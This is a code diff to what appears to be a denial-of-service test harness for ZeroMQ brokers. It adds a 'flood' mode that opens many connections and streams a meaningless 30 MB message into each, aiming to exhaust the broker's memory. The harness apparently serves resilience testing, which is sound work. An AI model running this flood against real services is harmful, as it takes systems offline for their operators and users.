@@ -29,6 +29,10 @@ WHOLE_MESSAGE = b"\x01\x00" + b"\x00\x02\x08\x06"
 #: The header of a frame of 32 MiB, the largest that a listener takes: libzmq allocates it at once.
 LARGE_HEADER = b"\x02" + (32 << 20).to_bytes(8, "big")
 
+#: A whole message of 30 MB that makes no sense, and how much of it is sent at once.
+LARGE_MESSAGE = b"\x01\x00\x02" + (30_000_001).to_bytes(8, "big") + b"\x0a" + b"x" * 30_000_000
+PIECE_BYTES = 1 << 20
+
 #: One round of connecting again. Attackers that wait are as bad, and leave the machine to others.
 ROUND_SECONDS = 0.02
 
@@ -205,12 +209,45 @@ def stream(make: Callable[[str], socket.socket], endpoint: str, count: int) -> N
             report_ready()
 
 
+def flood(endpoint: str, count: int) -> None:
+    """Send large whole messages over that many connections, and read no answer."""
+    message = memoryview(LARGE_MESSAGE)
+    sent: dict[socket.socket, int] = {}
+    began, said = time.monotonic(), False
+    while not told_to_end(0):
+        while len(sent) < count:
+            try:
+                raw = established(endpoint)
+            except OSError:
+                break
+            raw.settimeout(0)
+            sent[raw] = 0
+        if not sent and told_to_end(ROUND_SECONDS):
+            return
+        for raw in select.select([], sent, [], ROUND_SECONDS)[1]:
+            start = sent[raw] % len(message)
+            try:
+                sent[raw] += raw.send(message[start : start + PIECE_BYTES])
+            except BlockingIOError:
+                pass
+            except OSError:
+                raw.close()
+                del sent[raw]
+        # As much as the broker's memory, or as much as it takes.
+        is_much = sum(sent.values()) > 512 << 20
+        if not said and (is_much or time.monotonic() - began > ROUND_SECONDS_MAX):
+            said = True
+            report_ready()
+
+
 def main(kind: str, endpoint: str, count: str) -> None:
     """Attack until stdin ends."""
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     if soft != hard:
         resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    if kind in HOLDERS:
+    if kind == "whole":
+        flood(endpoint, int(count))
+    elif kind in HOLDERS:
         hold(HOLDERS[kind], endpoint, int(count))
     else:
         stream(STREAMERS[kind], endpoint, int(count))
